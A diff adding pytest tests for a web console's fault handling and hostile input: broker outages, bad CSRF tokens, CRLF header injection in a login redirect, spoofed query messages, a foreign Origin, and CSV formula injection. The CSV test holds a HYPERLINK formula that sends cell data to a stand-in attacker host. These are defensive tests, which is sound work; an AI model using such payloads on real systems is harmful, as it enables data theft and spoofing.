@@ -9,6 +9,7 @@ IDSTREAM_REQUIRE_BROWSER=1, so there they fail instead. IDSTREAM_SCREENSHOTS=DIR
 from __future__ import annotations
 
 import json
+import logging
 import os
 import re
 import subprocess
@@ -436,3 +437,107 @@ def test_the_language_follows_the_query_then_the_cookie_then_accept_language(
     explicit: str | None, cookie: str | None, header: str | None, expected: str
 ) -> None:
     assert choose(explicit, cookie, header) == expected
+
+
+# ----------------------------------------------------------------------------- in process: faults and hostile input
+
+
+def _config(redis_url: str, **kwargs: Any) -> Any:
+    from identity import Normalizer, ResolutionPolicy
+    from streams.lookup_api import ApiConfig
+
+    return ApiConfig(redis_url, ResolutionPolicy(), Normalizer(), f"console-{os.getpid()}", (READ_TOKEN.encode(),),
+                     ingest_tokens=(WRITE_TOKEN.encode(),), **kwargs)  # fmt: skip
+
+
+async def _csrf_of(client: Any, cookies: dict[str, str]) -> tuple[str, dict[str, str]]:
+    page = await client.get("/console/persons", cookies=cookies, allow_redirects=False)
+    sid = page.cookies["idstream_sid"].value if "idstream_sid" in page.cookies else cookies["idstream_sid"]
+    found = re.search(r'name="csrf" value="([0-9a-f]{64})"', await page.text())
+    assert found is not None
+    return found[1], {**cookies, "idstream_sid": sid}
+
+
+def test_health_says_the_broker_is_away_instead_of_failing(redis_url: str) -> None:
+    from tests.conftest import serve_api
+
+    dead = f"127.0.0.1:{_closed_port()}"
+
+    async def scenario(client: Any) -> None:
+        cookies = {"idstream_token": READ_TOKEN}
+        page = await client.get("/console/health", cookies=cookies)
+        assert page.status == 200
+        assert "The broker does not answer right now" in await page.text()
+        again = await client.get("/console/health", cookies=cookies)  # the failure is remembered briefly
+        assert "The broker does not answer right now" in await again.text()
+        review = await client.get("/console/review", cookies=cookies)
+        assert review.status == 503
+        assert 'id="broker-error"' in await review.text()
+        assert (await client.get("/healthz")).status == 200  # the API itself goes on
+
+    serve_api(_config(redis_url, kafka=dead), scenario)
+
+
+def test_hostile_form_values_get_a_page_that_names_the_problem_never_a_crash(
+    redis_url: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    from tests.conftest import serve_api
+
+    phone = "+7916123456789999999999"
+
+    async def scenario(client: Any) -> None:
+        cookies = {"idstream_token": READ_TOKEN, "idstream_write": WRITE_TOKEN}
+        csrf, cookies = await _csrf_of(client, cookies)
+        bad_csrf = await client.post("/console/review", cookies=cookies, data={"csrf": "ключ", "action": "x"})
+        assert bad_csrf.status == 403  # a non-ASCII token is just a wrong one
+        login = await client.post("/console/login", cookies=cookies, data={"csrf": "ключ", "token": READ_TOKEN})
+        assert login.status == 401
+        form = {"csrf": csrf, "action": "identity_unlink", "a": "phone:" + phone, "b": "Phone!:" + "x" * 300,
+                "operator": "o", "reason": "r"}  # fmt: skip
+        answer = await client.post("/console/review", cookies=cookies, data=form)
+        assert answer.status in (400, 503)  # a clear page either way: invalid, or no broker to send to
+        assert "application/json" not in answer.headers["Content-Type"]
+        nxt = await client.get("/console/login?next=/console/x%0d%0aSet-Cookie:%20a=b", cookies=cookies)
+        assert 'next=%2Fconsole%2F"' in (await nxt.text()).replace("&#34;", '"')  # a broken target becomes the home
+        fake = await client.get("/console/review?sent=identity_link%20Your%20account%20is%20blocked",
+                                cookies=cookies)  # fmt: skip
+        assert "account is blocked" not in await fake.text()
+
+    with caplog.at_level(logging.DEBUG):
+        serve_api(_config(redis_url, kafka=None), scenario)
+    assert phone not in caplog.text
+
+
+def test_a_proxy_that_rewrites_host_still_accepts_the_console_own_forms(redis_url: str) -> None:
+    from tests.conftest import serve_api
+
+    async def scenario(client: Any) -> None:
+        csrf, cookies = await _csrf_of(client, {"idstream_token": READ_TOKEN})
+        headers = {"Origin": "https://console.example.ru", "X-Forwarded-Host": "console.example.ru"}
+        ok = await client.post("/console/login", cookies=cookies, data={"csrf": csrf, "token": READ_TOKEN},
+                               headers=headers, allow_redirects=False)  # fmt: skip
+        assert ok.status == 303
+        other = await client.post("/console/login", cookies=cookies, data={"csrf": csrf, "token": READ_TOKEN},
+                                  headers={"Origin": "https://evil.example"}, allow_redirects=False)  # fmt: skip
+        assert other.status == 401
+
+    serve_api(_config(redis_url), scenario)
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula() -> None:
+    from sinks.warehouse.report import ChannelReport, ChannelRow, render
+
+    row = ChannelRow('=HYPERLINK("https://evil.example/?"&A2,"x")', "+cpc", "@camp", romi=-100.0)
+    report = ChannelReport("linear", None, None, "RUB", [row], ChannelRow("(total)", "", ""))
+    text = render(report, "csv")
+    assert "'=HYPERLINK" in text
+    assert ",'+cpc,'@camp," in text
+    assert ",-100.0," in text  # numbers stay numbers
+
+
+def _closed_port() -> int:
+    import socket
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
